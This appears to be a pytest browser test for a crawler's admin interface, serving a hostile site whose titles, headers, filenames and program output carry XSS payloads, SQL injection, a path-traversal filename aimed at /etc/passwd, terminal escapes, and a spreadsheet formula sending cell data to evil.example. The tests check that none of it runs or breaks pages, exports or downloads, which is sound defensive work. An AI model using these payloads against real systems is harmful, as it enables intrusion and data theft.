"""A site that attacks whoever reads what was crawled: it is crawled by a real worker, and read in a real browser."""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path
from typing import Final
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from tests.browser.conftest import BrowserPage
from tests.browser.looks import watch_dialogs, watch_requests
from tests.helpers.admin import Admin, add_site, add_target
from tests.helpers.pools import QUICK
from tests.helpers.servers.base import HTML, Exchange, Server, Site, not_found
from tests.helpers.waiting import wait_until
from webqueue import jobs
from webqueue.models import Document, Job
from webqueue.settings import Settings
from webqueue.worker import WorkerPool

RUNS: Final = "window.pwned=1;alert(1)"
SCRIPT: Final = f"</title></pre></textarea><script>{RUNS}</script>"
IMAGE: Final = f"\"'><img src=x onerror={RUNS}>"
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"look")'
BACKWARDS: Final = "report \u202egnp.exe\u2066 \u200f end"
CONTROL: Final = "\x1b]0;taken\x07\x1b[2J\x9b31m bell\x08\x08"
SQL: Final = "'; DROP TABLE jobs; --"
MEGABYTE: Final = "W" * 1_000_000
TITLES: Final = (
    SCRIPT,
    IMAGE,
    FORMULA,
    BACKWARDS,
    CONTROL,
    SQL,
    MEGABYTE,
    "{{ 7 * 7 }}{% raw %}",
    "+1|cmd",
    "@SUM(1)",
)
PROSE: Final = (
    "<p>The harbour office tells that ships of more than nine metres pay a fee from the first of March.</p>"
)
FILE_NAME: Final = f"{IMAGE}.pdf\"; filename*=UTF-8''..%2f..%2fetc%2fpasswd"
PROGRAM: Final = f"""
import sys
for text in {list(TITLES)!a}:
    sys.stdout.buffer.write(text.encode() + b"\\n")
    sys.stdout.buffer.write(("::progress 1/2 " + text[:500]).encode() + b"\\n")
sys.stdout.buffer.write(b"\\xff\\xfe\\x00 no text\\n")
sys.exit({SCRIPT!a})
"""
WIDTHS: Final = (1360, 390)
LARGEST_PAGE: Final = 300_000


class AttackingSite(Site):
    """A list of articles, one for each hostile title; addresses, headers, files and bodies attack as well."""

    def respond(self, exchange: Exchange) -> None:
        path = exchange.request.path
        if path == "/list":
            links = [
                f'<li><a href="/a/{number}/{quote(IMAGE)}?q={quote(SQL)}">x</a></li>'
                for number in range(len(TITLES))
            ]
            traps = [
                f'<li><a href="{trap}">trap</a></li>'
                for trap in (f"javascript:{RUNS}", f"data:text/html,{SCRIPT}")
            ]
            exchange.send(f"<!doctype html><ul>{''.join(links + traps)}</ul>")
        elif path.startswith("/a/"):
            title = TITLES[int(path.split("/")[2])]
            escaped = title.replace("&", "&amp;").replace("<", "&lt;")
            body = (
                f"<!doctype html><html><head><title>{escaped}</title><script>{RUNS}</script></head><body>"
                f'<h1>{escaped}</h1><article>{PROSE}<p>{escaped[:2_000]}</p><img src=x onerror="{RUNS}">'
                f'<a href="/files/{quote(IMAGE)}.pdf">{FORMULA}</a></article></body></html>'
            )
            exchange.send(body, content_type=f'text/html; charset=utf-8; x="{IMAGE}"', etag=f'"{SCRIPT}"')
        elif path.startswith("/files/"):
            headers = {"Content-Disposition": f'attachment; filename="{FILE_NAME}"'}
            exchange.send(f"%PDF-1.4 {SCRIPT}", content_type="application/pdf", headers=headers)
        elif path == "/refuse":
            exchange.send(f"<title>{SCRIPT}</title>", status=429, headers={"Retry-After": SCRIPT})
        elif path == "/empty":
            exchange.send(f"<!doctype html><title>{SCRIPT}</title>{IMAGE}", content_type=HTML)
        else:
            not_found(exchange)


def add_targets(admin: Admin, server: Server, folder: Path) -> list[str]:
    """One target for each way in which foreign text comes in; their codes."""
    program = folder / "program.py"
    program.write_text(PROGRAM, encoding="utf-8")
    crawl = {"item_selector": "a", "title_selector": "h1", "max_pages": 1}
    targets = {
        "articles": ("crawl", {"list_url": "/list", "attachments": True, **crawl}),
        "refused": ("crawl", {"list_url": f"/refuse?{quote(IMAGE)}", **crawl}),
        "empty": ("crawl", {"list_url": f"/empty?{quote(SCRIPT)}", **crawl}),
        "program": ("command", {"argv": [sys.executable, str(program)]}),
    }
    with admin.database.transaction() as session:
        for code, (handler, params) in targets.items():
            # A site each: what is refused to one must not keep the others waiting.
            add_site(session, code, server.url + "/", rate_key=code, name=IMAGE, cooldown_sec=3600)
            add_target(
                session, code, code, handler=handler, params=params, interval_sec=0, retry={"times": 0},
                note=SCRIPT, owner=IMAGE, tags=["hostile"],
            )  # fmt: skip
    return list(targets)


@contextmanager
def crawled(admin: Admin, settings: Settings) -> Iterator[list[Job]]:
    """The jobs of all targets once a worker has run them."""
    pool = WorkerPool(admin.database, settings, threads=4, timing=QUICK)
    with Server(AttackingSite()) as server:
        codes = add_targets(admin, server, settings.instance_path)
        submitted = [
            admin.database.run(partial(jobs.submit, target_code=code, by="ann")).seq for code in codes
        ]
        pool.start()
        try:

            def finished() -> list[Job]:
                with admin.database.reading() as session:
                    rows = [session.get_one(Job, seq) for seq in submitted]
                return rows if all(row.finished_at is not None for row in rows) else []

            rows = wait_until(finished, timeout=60, message="the hostile crawls to end")
        finally:
            pool.stop(5)
        yield rows


@pytest.fixture
def settings(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Settings:
    """Programs are allowed: what they print is foreign text, too."""
    monkeypatch.setenv("WEBQUEUE_ALLOW_COMMANDS", "true")
    return settings


def test_nothing_of_a_hostile_crawl_runs_or_breaks_a_page(
    admin: Admin, settings: Settings, browser_page: BrowserPage, console_errors: list[str]
) -> None:
    with crawled(admin, settings) as rows, admin.database.reading() as session:
        stored = list(session.scalars(select(Document).order_by(Document.id)))
    by_target = {row.target_code: row for row in rows}
    assert by_target["articles"].status == "done", by_target["articles"].error_msg
    assert {row.status for code, row in by_target.items() if code != "articles"} == {"failed"}
    pages = [one for one in stored if one.content_type.startswith("text/html")]
    assert len(pages) == len(TITLES)
    assert len(stored) > len(pages), "attachments are documents, too"

    paths = ["/", "/jobs", "/targets", "/sites", "/rate-keys", "/documents", "/schedule", "/settings/audit"]
    paths += [f"/jobs/{row.id}" for row in rows]
    paths += [f"/{kind}/{code}" for code in by_target for kind in ("targets", "sites", "rate-keys")]
    paths += [f"/targets/{code}/edit" for code in by_target]
    paths += [f"/documents/{one.id}" for one in stored]
    paths += [f"/documents?q={quote(text[:100])}" for text in TITLES]
    paths += [f"/jobs?target={quote(IMAGE)}", f"/jobs/{quote(SCRIPT)}", f"/targets?q={quote(IMAGE)}"]
    shown = 0
    for width in WIDTHS:
        page = browser_page(width)
        ran, asked = watch_dialogs(page), watch_requests(page)
        page.goto(admin.login_link())
        for path in paths:
            answer = page.goto(admin.url + path)
            assert answer is not None
            assert answer.status in {200, 404}, path
            assert len(answer.body()) < LARGEST_PAGE, path
            assert page.evaluate("typeof window.pwned") == "undefined", path
            assert page.evaluate("document.documentElement.scrollWidth") <= width, path
            for never in (
                "img, iframe, object, embed, script:not([src^='/static/'])",
                "a[href^='javascript' i], a[href^='data' i]",
            ):
                expect(page.locator(never), path).to_have_count(0)
            shown += page.get_by_text(f"<script>{RUNS}", exact=False).count()
        assert ran == []
        assert asked == {urlsplit(admin.url).netloc}
    # The one page that is not there; a violation of the content security policy would stand here, too.
    console_errors[:] = [error for error in console_errors if "404 (NOT FOUND)" not in error]
    assert shown > len(WIDTHS) * 5, "the hostile texts are on the pages, as text"


def test_nothing_of_a_hostile_crawl_runs_out_of_a_download(
    admin: Admin, settings: Settings, browser_page: BrowserPage
) -> None:
    with crawled(admin, settings) as rows, admin.database.reading() as session:
        stored = list(session.scalars(select(Document).order_by(Document.id)))
    page = browser_page()
    ran = watch_dialogs(page)
    page.goto(admin.login_link())
    csv.field_size_limit(2 * len(MEGABYTE))
    for path in ("/documents.csv", "/jobs.csv"):
        answer = page.request.get(admin.url + path)
        table = list(csv.reader(io.StringIO(answer.text().removeprefix("\ufeff"), newline="")))
        assert len(table) > len(rows)
        assert {len(row) for row in table} == {len(table[0])}
        unsafe = [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert unsafe == []
    for one in stored:
        page.goto(f"{admin.url}/documents/{one.id}")
        with page.expect_download() as download:
            page.get_by_role("link", name="Download as it came").click()
        name = download.value.suggested_filename
        assert name.isascii()
        assert not set(name) & set("<>\"'/\\"), name
        kept = page.request.get(download.value.url)
        assert "sandbox" in kept.headers["content-security-policy"]
        assert kept.headers["content-disposition"].startswith("attachment")
        assert kept.headers["x-content-type-options"] == "nosniff"
    for row in rows:
        log = page.request.get(f"{admin.url}/jobs/{row.id}/log.txt")
        assert log.headers["content-type"].startswith("text/plain")
        assert log.headers["x-content-type-options"] == "nosniff"
    assert ran == []
